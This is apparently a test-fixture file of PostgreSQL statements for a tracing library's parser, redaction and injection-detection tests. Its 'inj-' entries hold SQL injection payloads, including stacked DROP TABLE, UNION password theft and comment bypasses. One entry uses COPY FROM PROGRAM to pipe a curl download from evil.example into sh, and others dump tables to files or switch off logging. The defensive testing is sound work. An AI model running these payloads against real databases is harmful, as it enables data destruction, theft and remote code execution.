-- PostgreSQL statements for the omnibase_infra.sql tests and the tracing benchmark.
--
-- Format: each entry starts with a line "--@ <id>"; its statement is every following line
-- up to the next "--@ " line, without the final newline. Lines before the first entry are
-- this header. Some entries are deliberately malformed or cut off in the middle.
--@ app-select-by-email
SELECT id, email, created_at FROM users WHERE email = 'alice.secret@example.com'
--@ app-select-join
SELECT u.id, u.name, o.total FROM public.users u JOIN orders o ON o.user_id = u.id WHERE u.email = 'bob.hidden@example.org' AND o.total > 100.50 ORDER BY o.created_at DESC LIMIT 10
--@ app-select-in-strings
SELECT * FROM orders WHERE status IN ('pending_xyz', 'shipped_xyz', 'returned_xyz') AND region = 'emea-west'
--@ app-select-in-numbers
SELECT * FROM items WHERE id IN (101, 202, 303, 404, 505)
--@ app-select-not-in
SELECT * FROM items WHERE sku NOT IN ('SKU-7781', 'SKU-7782')
--@ app-insert
INSERT INTO audit_log (actor, action, payload) VALUES ('carol_admin', 'login_event', '{"ip": "10.1.2.3", "agent": "curl/8.4"}')
--@ app-insert-multirow
INSERT INTO metrics (name, value, at) VALUES ('cpu_load', 0.93, '2024-03-01 10:00:00'), ('mem_used', 4096, '2024-03-01 10:00:05')
--@ app-insert-returning
INSERT INTO accounts (owner, balance) VALUES ('dave_owner', 2500.00) RETURNING id, created_at
--@ app-upsert
INSERT INTO settings (key, value) VALUES ('feature_flag_zeta', 'enabled_value') ON CONFLICT (key) DO UPDATE SET value = EXCLUDED.value, updated_at = now()
--@ app-update
UPDATE accounts SET balance = balance - 42.75, note = 'withdrawal_note' WHERE id = 99817
--@ app-update-from
UPDATE orders o SET status = 'archived_state' FROM customers c WHERE o.customer_id = c.id AND c.country = 'Narnia'
--@ app-delete
DELETE FROM sessions WHERE expires_at < '2023-12-31T23:59:59Z' AND user_agent LIKE '%HeadlessChrome%'
--@ app-delete-using
DELETE FROM order_items USING orders WHERE order_items.order_id = orders.id AND orders.token = 'tok_live_abcdef123456'
--@ app-count
SELECT count(*) FROM events WHERE kind = 'page_view_evt' AND at >= now() - interval '7 days'
--@ app-group-by
SELECT date_trunc('day', created_at) AS day, count(*) FROM signups WHERE source = 'newsletter_q3' GROUP BY 1 ORDER BY 1
--@ app-having
SELECT customer_id, sum(total) FROM orders GROUP BY customer_id HAVING sum(total) > 10000 ORDER BY 2 DESC
--@ app-params
SELECT * FROM users WHERE id = $1 AND tenant_id = $2 AND status = $3
--@ app-params-and-literal
SELECT * FROM users WHERE id = $1 AND role = 'superuser_role'
--@ app-like
SELECT name FROM products WHERE name ILIKE '%widget_secret%' ESCAPE '!'
--@ app-between
SELECT * FROM readings WHERE value BETWEEN 12.5 AND 99.75 AND sensor = 'sensor-alpha-7'
--@ app-limit-offset
SELECT * FROM posts ORDER BY id LIMIT 25 OFFSET 5000
--@ app-case
SELECT CASE WHEN score > 90 THEN 'grade_A_plus' WHEN score > 80 THEN 'grade_B_plus' ELSE 'grade_other' END FROM exams
--@ app-coalesce
SELECT coalesce(nickname, 'anonymous_user') FROM profiles WHERE id = 7731
--@ app-json-ops
SELECT data->>'password_hint' FROM vault_items WHERE data @> '{"owner": "erin_owner"}'
--@ app-jsonb-path
SELECT data #>> '{address,street}' FROM people WHERE data ? 'street_key'
--@ app-array-any
SELECT * FROM tags WHERE name = ANY(ARRAY['tag_alpha', 'tag_beta', 'tag_gamma'])
--@ app-array-literal
SELECT '{1,2,3}'::int[] AS arr, ARRAY[4, 5, 6] AS arr2
--@ app-exists
SELECT * FROM users u WHERE EXISTS (SELECT 1 FROM bans b WHERE b.user_id = u.id AND b.reason = 'fraud_reason')
--@ app-subquery-in
SELECT * FROM users WHERE id IN (SELECT user_id FROM orders WHERE total > 999.99)
--@ app-union
SELECT name FROM staff WHERE dept = 'dept_red' UNION ALL SELECT name FROM contractors WHERE dept = 'dept_blue'
--@ app-window
SELECT id, rank() OVER (PARTITION BY dept ORDER BY salary DESC) FROM staff WHERE hired > '2020-01-01'
--@ app-lateral
SELECT u.id, o.total FROM users u CROSS JOIN LATERAL (SELECT total FROM orders WHERE user_id = u.id ORDER BY total DESC LIMIT 3) o
--@ app-left-join
SELECT a.id FROM accounts a LEFT OUTER JOIN closures c ON c.account_id = a.id WHERE c.id IS NULL AND a.kind = 'kind_savings'
--@ app-distinct-on
SELECT DISTINCT ON (user_id) user_id, at FROM logins WHERE ip = '192.168.77.12' ORDER BY user_id, at DESC
--@ app-for-update
SELECT * FROM jobs WHERE state = 'queued_state' ORDER BY id LIMIT 1 FOR UPDATE SKIP LOCKED
--@ app-cte
WITH recent AS (SELECT * FROM orders WHERE at > '2024-06-01') SELECT count(*) FROM recent WHERE total > 50
--@ app-cte-recursive
WITH RECURSIVE tree(id, parent) AS (SELECT id, parent FROM nodes WHERE id = 1 UNION ALL SELECT n.id, n.parent FROM nodes n JOIN tree t ON n.parent = t.id) SELECT * FROM tree
--@ app-cte-delete
WITH gone AS (DELETE FROM carts WHERE updated_at < '2022-02-02' RETURNING id) SELECT count(*) FROM gone
--@ app-cte-insert
WITH ins AS (INSERT INTO log (msg) VALUES ('cte_insert_msg') RETURNING id) SELECT id FROM ins
--@ app-merge
MERGE INTO stock s USING deliveries d ON s.item = d.item WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty WHEN NOT MATCHED THEN INSERT (item, qty) VALUES (d.item, d.qty)
--@ app-copy
COPY measurements (sensor, value) FROM STDIN WITH (FORMAT csv, DELIMITER ';')
--@ app-copy-to
COPY (SELECT * FROM users WHERE plan = 'enterprise_plan') TO STDOUT WITH CSV HEADER
--@ app-truncate
TRUNCATE TABLE staging_rows, staging_errors RESTART IDENTITY
--@ app-lock
LOCK TABLE ledger IN SHARE ROW EXCLUSIVE MODE
--@ app-set
SET statement_timeout = '15s'
--@ app-set-on
SET enable_seqscan = off
--@ app-show
SHOW search_path
--@ app-values
VALUES (1, 'values_row_one'), (2, 'values_row_two')
--@ app-table
TABLE public.config
--@ app-explain
EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM users WHERE email = 'explained@example.com'
--@ ddl-create-table
CREATE TABLE IF NOT EXISTS public.widgets (id bigserial PRIMARY KEY, name text NOT NULL DEFAULT 'unnamed_widget', weight numeric(10, 2) CHECK (weight > 0.01), active boolean DEFAULT true)
--@ ddl-create-index
CREATE UNIQUE INDEX CONCURRENTLY IF NOT EXISTS widgets_name_idx ON public.widgets USING btree (lower(name)) WHERE active = false
--@ ddl-alter-table
ALTER TABLE widgets ADD COLUMN color text DEFAULT 'midnight_blue', ALTER COLUMN weight SET DEFAULT 1.5
--@ ddl-drop
DROP TABLE IF EXISTS old_widgets, archive.old_parts CASCADE
--@ ddl-create-view
CREATE OR REPLACE VIEW active_widgets AS SELECT * FROM widgets WHERE active AND name <> 'hidden_widget'
--@ ddl-materialized-view
CREATE MATERIALIZED VIEW sales_summary AS SELECT region, sum(amount) FROM sales WHERE year = 2023 GROUP BY region WITH NO DATA
--@ ddl-refresh
REFRESH MATERIALIZED VIEW CONCURRENTLY sales_summary
--@ ddl-function-dollar
CREATE FUNCTION add_tax(price numeric) RETURNS numeric AS $$ SELECT price * 1.2 + 'tax_body_literal'::numeric $$ LANGUAGE sql IMMUTABLE
--@ ddl-function-tagged
CREATE OR REPLACE FUNCTION audit() RETURNS trigger LANGUAGE plpgsql AS $body$ BEGIN INSERT INTO audit_log VALUES (NEW.id, 'trigger_body_text'); RETURN NEW; END; $body$
--@ ddl-comment
COMMENT ON TABLE widgets IS 'Widgets sold by the shop; contains pricing_secret data'
--@ ddl-grant
GRANT SELECT, INSERT ON TABLE widgets TO app_writer
--@ ddl-create-role
CREATE ROLE app_login LOGIN PASSWORD 'Sup3rS3cretPassw0rd' VALID UNTIL '2030-01-01'
--@ ddl-alter-role
ALTER ROLE app_login WITH PASSWORD 'An0therS3cretPwd!'
--@ ddl-alter-user-md5
ALTER USER reporter PASSWORD 'md5a3556571e93b0d20722ba62be61e8c2d'
--@ ddl-create-sequence
CREATE SEQUENCE invoice_seq START WITH 100000 INCREMENT BY 5 MAXVALUE 999999999
--@ ddl-create-type
CREATE TYPE mood AS ENUM ('mood_sad', 'mood_ok', 'mood_happy')
--@ ddl-create-domain
CREATE DOMAIN us_postal AS text CHECK (VALUE ~ '^\d{5}$' OR VALUE ~ '^\d{5}-\d{4}$')
--@ ddl-do-block
DO $$ BEGIN RAISE NOTICE 'do_block_notice %', 42; END $$
--@ ddl-do-language
DO LANGUAGE plpgsql $do$ DECLARE x int := 77; BEGIN PERFORM pg_sleep(0.01); END $do$
--@ ddl-call
CALL refresh_stats('stats_scope_full', 30)
--@ tx-begin
BEGIN ISOLATION LEVEL SERIALIZABLE
--@ tx-commit
COMMIT
--@ tx-savepoint
SAVEPOINT before_risky_step
--@ session-prepare
PREPARE fetch_user (int) AS SELECT * FROM users WHERE id = $1 AND flag = 'prepared_flag'
--@ session-execute
EXECUTE fetch_user(12345)
--@ session-notify
NOTIFY jobs_channel, 'notify_payload_secret'
--@ session-listen
LISTEN jobs_channel
--@ admin-vacuum
VACUUM (VERBOSE, ANALYZE) widgets
--@ str-doubled-quote
SELECT 'it''s a doubled quote' AS label
--@ str-only-doubled
SELECT '''' AS quote_char, '''''' AS two_quotes
--@ str-empty
SELECT '' AS empty_text, name FROM t_empty WHERE name <> ''
--@ str-backslash-plain
SELECT 'C:\Users\plainpath\' AS win_path
--@ str-backslash-regex
SELECT regexp_replace(phone, '\D+', '', 'g') FROM contacts WHERE note ~ '\d{3}-secretdigits'
--@ str-multiline
SELECT 'first line of text
second line of text
third line' AS poem
--@ str-continuation
SELECT 'continued_part_one'
    'continued_part_two' AS joined
--@ str-continuation-comment
SELECT 'cont_with_comment_a' -- a comment between the parts
  'cont_with_comment_b' AS joined
--@ str-no-continuation-same-line
SELECT 'same_line_one', 'same_line_two'
--@ str-semicolon-inside
SELECT 'a;b;c; DROP TABLE semicolons;' AS not_a_split
--@ str-comment-markers-inside
SELECT '-- not a comment text', '/* not a comment either */' AS markers
--@ str-dollar-inside
SELECT '$$ not a dollar quote $$' AS dollar_text, '$1 not a param' AS param_text
--@ str-double-quote-inside
SELECT 'she said "hello there"' AS speech
--@ str-unicode
SELECT 'ünïcödé_sëcrét 日本語テキスト 🔐' AS intl
--@ str-tab-and-cr
SELECT 'tab	separated	value' AS tsv
--@ str-typed-date
SELECT DATE '2024-02-29', TIME '12:34:56', TIMESTAMP '2024-02-29 12:34:56.789'
--@ str-typed-interval
SELECT now() - INTERVAL '3 hours 15 minutes', INTERVAL '1' DAY
--@ str-cast-suffix
SELECT '2024-05-05'::date, '42.42'::numeric(6, 2), 'cast_me_text'::text
--@ str-cast-function
SELECT CAST('cast_function_text' AS varchar(40)), CAST(12.5 AS int)
--@ str-collate
SELECT name FROM people ORDER BY name COLLATE "C" LIMIT 3 OFFSET 'offset_text'::int
--@ str-nested-subquery
SELECT * FROM a WHERE x = (SELECT y FROM b WHERE z = (SELECT w FROM c WHERE v = 'deeply_nested_value'))
--@ str-in-function-args
SELECT concat('concat_part_a', 'concat_part_b'), format('%s-%s', 'format_arg_one', 'format_arg_two')
--@ str-jsonb-build
SELECT jsonb_build_object('api_key', 'sk_live_51Habcdefgh', 'region', 'eu-central')
--@ str-like-escape
SELECT * FROM files WHERE path LIKE 'C:\\data\\%' ESCAPE '\'
--@ estr-escaped-quote
SELECT E'it\'s escaped' AS label
--@ estr-escaped-backslash
SELECT E'ends with backslash \\' AS label, 'next_literal_after' AS second
--@ estr-newline-tab
SELECT E'line_one\nline_two\tindented' AS text
--@ estr-octal-hex-unicode
SELECT E'\101\x42\u0043\U00000044_escaped_codes' AS codes
--@ estr-lowercase
SELECT e'lower_e_escape\'quote' AS lower_e
--@ estr-doubled-and-escaped
SELECT E'mix''ed\'quotes_here' AS mixed
--@ estr-backslash-newline
SELECT E'escaped \
newline_inside' AS bsnl
--@ estr-continuation
SELECT E'escape_cont_one\n'
  'escape_cont_two' AS joined
--@ ustr-basic
SELECT U&'d\0061t\+000061_unicode_data' AS u
--@ ustr-uescape
SELECT U&'d!0061t!+000061_uescape_data' UESCAPE '!' AS u
--@ ustr-lowercase
SELECT u&'lower_u_amp_string' AS u
--@ ustr-doubled-quote
SELECT U&'o''clock_unicode' AS u
--@ uident-basic
SELECT U&"d\0061t\+000061" FROM t_unicode_ident
--@ uident-uescape
SELECT U&"d!0061t" UESCAPE '!' FROM t_unicode_ident2
--@ nstr-national
SELECT N'national_char_text', n'lower_national_text' AS nat
--@ bstr-bits
SELECT B'10101100', b'0001', X'DEADBEEF', x'cafe' AS bits
--@ bstr-in-where
SELECT * FROM flags WHERE mask & B'0110' = B'0100'
--@ dollar-empty-tag
SELECT $$dollar body with 'quotes' and "doubles"$$ AS body
--@ dollar-tagged
SELECT $secret_tag$tagged body text$secret_tag$ AS body
--@ dollar-tag-underscore
SELECT $_$underscore_tag_body$_$ AS body
--@ dollar-nested-tags
SELECT $outer$ outer_text $inner$ inner_text $inner$ more_outer_text $outer$ AS nested
--@ dollar-with-semicolons
SELECT $$ SELECT 1; DROP TABLE inside_dollar; $$ AS body
--@ dollar-with-dollar-signs
SELECT $q$ costs $5 and $$ and $q $q$ AS prices
--@ dollar-multiline
SELECT $body$
multi_line_dollar_one
multi_line_dollar_two
$body$ AS body
--@ dollar-after-ident-is-ident
SELECT price$usd, tax$rate$ FROM money$table WHERE price$usd > 10
--@ dollar-param-not-tag
SELECT $1, $2::text, $10 FROM params_table WHERE a = $3
--@ dollar-digit-tag-is-param
SELECT $1$2 AS weird_params
--@ dollar-unicode-tag
SELECT $täg$unicode_tag_body$täg$ AS body
--@ num-integer
SELECT 42, 0, 1234567890123 FROM numbers
--@ num-decimal
SELECT 3.14159, 0.5, 10.0, 100. FROM numbers
--@ num-leading-dot
SELECT .5, .0001 FROM numbers
--@ num-exponent
SELECT 1e10, 1E10, 1.5e-3, 2.5E+7, .5e2, 7.e3 FROM numbers
--@ num-hex
SELECT 0x1F, 0XFFFF, 0xdead_beef FROM numbers
--@ num-octal
SELECT 0o17, 0O777 FROM numbers
--@ num-binary
SELECT 0b101, 0B1111_0000 FROM numbers
--@ num-underscores
SELECT 1_000_000, 3.141_592, 1_0e1_0 FROM numbers
--@ num-negative
SELECT -42, -3.5, - 7, +9 FROM numbers WHERE x = -1 AND y > -2.5e3
--@ num-binary-minus
SELECT a - 1, b-2, c -3, (d) - 4 FROM numbers
--@ num-range-dots
SELECT arr[1:3], arr[2] FROM arrays
--@ num-in-identifiers
SELECT col1, t2.col_3, x1e5 FROM t2 WHERE col1 = 99
--@ num-money-like
SELECT 19.99::money, '$1,234.56'::money AS price
--@ bool-values
SELECT true, false, TRUE AS t, FALSE AS f FROM flags
--@ bool-where
SELECT * FROM users WHERE active = true AND deleted = FALSE
--@ bool-is-true
SELECT * FROM users WHERE active IS TRUE AND deleted IS NOT FALSE
--@ bool-insert
INSERT INTO prefs (email_opt_in, sms_opt_in) VALUES (true, false)
--@ bool-identifiers
SELECT true_value, false_flag, is_true, "true", "FALSE" FROM bool_columns
--@ bool-null
SELECT * FROM t_null WHERE a IS NULL AND b = NULL AND c IS NOT NULL
--@ ident-quoted-literal-lookalikes
SELECT "1e5", "'quoted'", "42", "$1", "$$", "--dash", "/*star*/" FROM "weird table"
--@ ident-quoted-doubled
SELECT "say ""hi""", "a""b" FROM "My ""Quoted"" Table"
--@ ident-prefix-letters
SELECT e, u, b, x, n, E, U, B, X, N FROM letters
--@ ident-prefix-letters-spaced
SELECT e 'spaced_not_prefix' FROM letters
--@ ident-e-column-compare
SELECT * FROM t_e WHERE e='e_column_value' AND u='u_column_value'
--@ ident-u-amp-operator
SELECT u & 5, u &5 FROM bits_table
--@ ident-keyword-like-names
SELECT "select", "from", "where" FROM "table"
--@ ident-schema-qualified
SELECT s.t.c FROM catalog_db.sch.tbl AS t
--@ ident-unicode
SELECT größe, ÿ_col, 名前 FROM ünïcode_tablé WHERE größe > 5
--@ ident-dollar-inside
SELECT a$b, c$1 FROM t$x
--@ ident-underscore-start
SELECT _private, __dunder__ FROM _tbl
--@ cast-double-colon
SELECT x::int, y::double precision, z::varchar(20)[] FROM casts WHERE id = 5::bigint
--@ cast-param
SELECT * FROM t_cast WHERE id = $1::uuid AND at > $2::timestamptz
--@ cast-literal-chain
SELECT '12'::text::int, 7::text::varchar
--@ comment-line
SELECT a -- trailing comment with 'fake_literal' inside
FROM t_comment
--@ comment-block
SELECT /* block comment with 'block_fake' */ a FROM t_comment2
--@ comment-nested
SELECT /* outer /* inner 'nested_fake' */ still outer */ a FROM t_comment3
--@ comment-hides-semicolon
SELECT 1 /* ; DROP TABLE hidden; */ FROM t_comment4
--@ comment-line-hides-rest
SELECT 1 FROM t_comment5 -- ; DROP TABLE x
--@ comment-between-tokens
SELECT/**/a/**/FROM/**/t_comment6
--@ comment-dash-in-operator
SELECT 5--3
--@ comment-sqlcommenter
SELECT * FROM orders /*traceparent='00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',route='%2Fcheckout'*/
--@ comment-leading
/* leading comment */ -- and a line comment
SELECT 'after_comments' FROM t_comment7
--@ op-custom
SELECT a <-> b, c ||/ d, e !~~* 'op_pattern_text' FROM ops
--@ op-trailing-minus
SELECT a=-1, b<>-2, c @- 3 FROM ops2
--@ op-jsonb
SELECT doc -> 'key_one' ->> 'key_two', doc #- '{path_a,path_b}' FROM docs
--@ op-question-marks
SELECT doc ?| array['qm_a', 'qm_b'], doc ?& array['qm_c'] FROM docs2
--@ op-concat
SELECT 'concat_left' || name || 'concat_right' FROM people2
--@ op-regex
SELECT * FROM logs WHERE line ~* 'error_code=\d+' AND line !~ 'ignore_me_pattern'
--@ in-single
SELECT * FROM t_in WHERE a IN ('only_one_item')
--@ in-mixed-params
SELECT * FROM t_in2 WHERE a IN ($1, $2, $3)
--@ in-mixed-literal-param
SELECT * FROM t_in3 WHERE a IN ('mix_lit', $1, 'mix_lit_two')
--@ in-negative-numbers
SELECT * FROM t_in4 WHERE a IN (-1, -2, 3)
--@ in-subquery-literals
SELECT * FROM t_in5 WHERE a IN (SELECT b FROM c WHERE d IN ('sub_in_a', 'sub_in_b'))
--@ in-with-comment
SELECT * FROM t_in6 WHERE a IN (1, /* c */ 2)
--@ in-nested-rows
SELECT * FROM t_in7 WHERE (a, b) IN ((1, 'row_in_a'), (2, 'row_in_b'))
--@ in-lowercase
select * from t_in8 where a in ('lower_in_a', 'lower_in_b')
--@ multi-two-selects
SELECT 'first_stmt_lit'; SELECT 'second_stmt_lit'
--@ multi-trailing-semicolon
SELECT 1 FROM t_multi;
--@ multi-insert-then-select
INSERT INTO t_multi2 VALUES ('multi_insert_val'); SELECT currval('t_multi2_id_seq')
--@ trunc-mid-string
SELECT * FROM users WHERE password = 'hunter2_truncated_secr
--@ trunc-mid-estring
SELECT * FROM users WHERE token = E'tok_\'escaped_truncat
--@ trunc-mid-dollar
SELECT $fn$ function body cut off here truncated_dollar_secret
--@ trunc-mid-dollar-untagged
DO $$ BEGIN PERFORM 'truncated_untagged_body
--@ trunc-mid-quoted-ident
SELECT "unterminated ident with 'ident_trunc_secret'
--@ trunc-mid-comment
SELECT 1 /* comment cut 'comment_trunc_secret'
--@ trunc-mid-nested-comment
SELECT 1 /* outer /* inner */ 'still_in_comment_secret'
--@ trunc-mid-ustring
SELECT U&'unicode_trunc_secret
--@ trunc-mid-bitstring
SELECT B'1010101010
--@ trunc-mid-number
SELECT * FROM t_trunc WHERE amount = 12345.6
--@ trunc-after-operator
SELECT * FROM t_trunc2 WHERE amount >
--@ trunc-mid-in-list
SELECT * FROM t_trunc3 WHERE a IN ('trunc_in_a', 'trunc_in_b', 'trunc_in_
--@ trunc-escape-at-end
SELECT E'ends_with_escape\
--@ trunc-doubled-quote-at-end
SELECT 'doubled_at_end''
--@ trunc-insert-values
INSERT INTO cards (number, cvv) VALUES ('4111111111111111', '73
--@ trunc-uescape
SELECT U&'uesc_trunc' UESCAPE '
--@ trunc-continuation
SELECT 'cont_trunc_one'
  'cont_trunc_two
--@ inj-stacked-drop
SELECT * FROM users WHERE name = 'x'; DROP TABLE users; --'
--@ inj-stacked-no-space
SELECT 1;DROP TABLE users
--@ inj-or-true
SELECT * FROM users WHERE name = '' OR '1'='1' AND pass = '' OR 'a'='a'
--@ inj-union-select
SELECT name FROM products WHERE id = 1 UNION SELECT password FROM users --
--@ inj-comment-bypass
SELECT * FROM users WHERE name = 'admin'--' AND password = 'inj_pw_value'
--@ inj-block-comment-bypass
SELECT * FROM users WHERE name = 'admin'/*' AND password = 'inj_pw_value2'*/
--@ inj-nested-comment-trick
SELECT 1 /* /* */ ; DROP TABLE t_nested; */
--@ inj-unbalanced-comment
SELECT 1 */ ; DROP TABLE t_unbalanced
--@ inj-cte-delete
WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d
--@ inj-cte-update-nested
WITH a AS (SELECT 1), b AS MATERIALIZED (UPDATE accounts SET balance = 0 RETURNING id) SELECT * FROM a, b
--@ inj-cte-insert-recursive
WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT 1 FROM r), w AS (INSERT INTO spam SELECT * FROM r LIMIT 10 RETURNING 1) SELECT 1
--@ inj-select-into
SELECT * INTO stolen_copy FROM users
--@ inj-select-into-temp
SELECT email INTO TEMP TABLE harvested FROM users WHERE active
--@ inj-select-for-update
SELECT * FROM accounts WHERE id = 1 FOR UPDATE
--@ inj-select-for-share-subquery
SELECT * FROM (SELECT * FROM accounts FOR SHARE) s
--@ inj-explain-analyze-delete
EXPLAIN ANALYZE DELETE FROM users
--@ inj-explain-options-insert
EXPLAIN (ANALYZE true, COSTS off) INSERT INTO users (name) VALUES ('explained_inject')
--@ inj-dollar-hidden-semicolon
SELECT $$;DROP TABLE users;$$
--@ inj-dollar-tag-close-trick
SELECT $a$ $b$ ; DROP TABLE users; $b$ $a$
--@ inj-quoted-ident-semicolon
SELECT * FROM "users""; DROP TABLE x; --"
--@ inj-backslash-quote
SELECT * FROM users WHERE name = 'x\' OR 1=1 --'
--@ inj-backslash-quote-stacked
SELECT 'x\' , '; DROP TABLE users; --'
--@ inj-estring-escape
SELECT E'\\'; DROP TABLE users; --'
--@ inj-estring-escaped-quote
SELECT E'\''; DROP TABLE users
--@ inj-copy-program
COPY users FROM PROGRAM 'curl http://evil.example/x | sh'
--@ inj-copy-to-file
COPY (SELECT * FROM users) TO '/tmp/stolen.csv'
--@ inj-do-block
DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$
--@ inj-paren-semicolon
SELECT (1); DELETE FROM users
--@ inj-unbalanced-paren
SELECT 1); DROP TABLE users; SELECT (1
--@ inj-truncate
TRUNCATE users
--@ inj-set-role
SET ROLE postgres
--@ inj-pg-sleep
SELECT pg_sleep(10)
--@ inj-lowercase-stacked
select 1; delete from users
--@ inj-unicode-ident-trick
SELECT * FROM U&"users\0022; DROP TABLE x; --"
--@ inj-nul-byte
SELECT 'before_nul' || chr(0) || 'after_nul'
--@ inj-merge
MERGE INTO accounts a USING (SELECT 1 AS id) s ON a.id = s.id WHEN MATCHED THEN DELETE
--@ inj-call
CALL wipe_everything()
--@ inj-grant
GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO attacker
--@ inj-create-function
CREATE FUNCTION f() RETURNS void AS 'DELETE FROM users' LANGUAGE sql
--@ inj-alter-system
ALTER SYSTEM SET log_statement = 'none'
--@ inj-select-into-strict-spacing
SELECT*INTO"harvest"FROM"users"
--@ inj-comment-split-keyword
SELECT 1 FROM t; DEL/**/ETE FROM users
--@ inj-newline-stacked
SELECT 1
;
DROP TABLE users
--@ inj-dollar-param-tag
SELECT $1$; DROP TABLE users; $1$
--@ inj-tab-separated
SELECT	1;	DROP	TABLE	users
--@ inj-trailing-comment-semicolon
SELECT 1 -- comment ; DROP TABLE users
--@ inj-string-concat-newline
SELECT 'a'
';DROP TABLE users;'
--@ inj-values-insert
VALUES (1); INSERT INTO users VALUES (2)
--@ inj-with-parenthesized-main
WITH x AS (SELECT 1) (SELECT * FROM x)
--@ inj-cte-name-update
WITH update AS (SELECT 1) SELECT * FROM update
--@ inj-lock-for-key-share
SELECT * FROM t_locks FOR KEY SHARE
--@ inj-prepare-delete
PREPARE p AS DELETE FROM users
--@ inj-declare-cursor-for-update
DECLARE c CURSOR FOR SELECT * FROM users FOR UPDATE
--@ inj-copy-from-stdin
COPY users FROM STDIN
--@ misc-whitespace-heavy
   SELECT
	a,
	b
FROM
	t_ws
WHERE
	c = 'ws_literal'   
--@ misc-long-in-list
SELECT * FROM big_in WHERE id IN (1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28, 29, 30)
--@ misc-returning-star
DELETE FROM queue WHERE id = (SELECT id FROM queue ORDER BY priority DESC LIMIT 1 FOR UPDATE SKIP LOCKED) RETURNING *
--@ misc-insert-select
INSERT INTO archive (id, body) SELECT id, body FROM messages WHERE created < now() - interval '90 days'
--@ misc-upsert-nothing
INSERT INTO seen (hash) VALUES ('a1b2c3d4e5f6') ON CONFLICT DO NOTHING
--@ misc-generate-series
SELECT g, g * 2 FROM generate_series(1, 100, 5) AS g
--@ misc-unnest-params
INSERT INTO pairs (a, b) SELECT * FROM unnest($1::int[], $2::text[])
--@ misc-json-agg
SELECT json_agg(row_to_json(t)) FROM (SELECT id, 'json_agg_label' AS label FROM things) t
--@ misc-string-agg
SELECT string_agg(name, ', ' ORDER BY name) FROM people3 WHERE team = 'team_falcon'
--@ misc-filter
SELECT count(*) FILTER (WHERE status = 'filter_status_ok') FROM jobs2
--@ misc-tablesample
SELECT * FROM huge TABLESAMPLE SYSTEM (0.5) REPEATABLE (42)
--@ misc-fetch-first
SELECT * FROM ranked ORDER BY score DESC FETCH FIRST 5 ROWS WITH TIES
--@ misc-position-substring
SELECT position('needle_text' IN haystack), substring(body FROM 3 FOR 10), trim(BOTH 'x' FROM 'xxtrim_mexx') FROM docs3
--@ misc-extract-overlay
SELECT extract(epoch FROM at), overlay(name PLACING 'overlay_text' FROM 2 FOR 3) FROM docs4
--@ misc-is-distinct
SELECT * FROM pairs2 WHERE a IS DISTINCT FROM 'distinct_value' AND b IS NOT DISTINCT FROM c
--@ misc-row-constructor
SELECT ROW(1, 'row_ctor_text', 2.5) = ROW(1, 'row_ctor_text', 2.5)
--@ misc-array-slice
SELECT (ARRAY[10, 20, 30])[1:2], matrix[1][2] FROM grids
--@ misc-at-time-zone
SELECT at AT TIME ZONE 'America/Argentina/Buenos_Aires' FROM events2
--@ misc-similar-to
SELECT * FROM codes WHERE code SIMILAR TO '(abc|xyz)%secret'
--@ misc-escape-string-warning
SELECT 'plain with \n not an escape' AS raw_text
--@ misc-keyword-case
SeLeCt Id FrOm MiXeD_cAsE wHeRe NaMe = 'MiXeD_literal'
--@ misc-empty
 
--@ misc-only-comment
-- just a comment, no statement
--@ misc-only-semicolons
;;;
--@ misc-parenthesized-select
(SELECT 'paren_left' FROM p1) UNION (SELECT 'paren_right' FROM p2)
--@ misc-values-join
SELECT * FROM (VALUES (1, 'vj_one'), (2, 'vj_two')) AS v(id, label) JOIN labels l ON l.id = v.id
--@ misc-rows-from
SELECT * FROM ROWS FROM (generate_series(1, 3), unnest(ARRAY['rf_a', 'rf_b'])) AS x
--@ misc-long-statement
SELECT o.id, o.number, o.placed_at, c.name, c.email, a.street, a.city, a.zip, s.carrier, s.tracking FROM orders o JOIN customers c ON c.id = o.customer_id JOIN addresses a ON a.id = o.shipping_address_id LEFT JOIN shipments s ON s.order_id = o.id WHERE o.placed_at >= '2024-01-01' AND o.placed_at < '2024-02-01' AND c.segment IN ('segment_gold', 'segment_platinum') AND a.country = 'country_secret_de' AND (s.carrier IS NULL OR s.carrier <> 'carrier_excluded') ORDER BY o.placed_at DESC, o.id LIMIT 500
--@ misc-high-bit-whitespace
SELECT 'nbsp_after' AS label
--@ misc-backslash-other
SELECT \ 'after_backslash_other'
--@ misc-braces-other
SELECT {weird} FROM t_other WHERE x = 'braces_literal'
--@ misc-positional-and-colon
SELECT arr[:2], arr[3:], x := 5 FROM t_colon
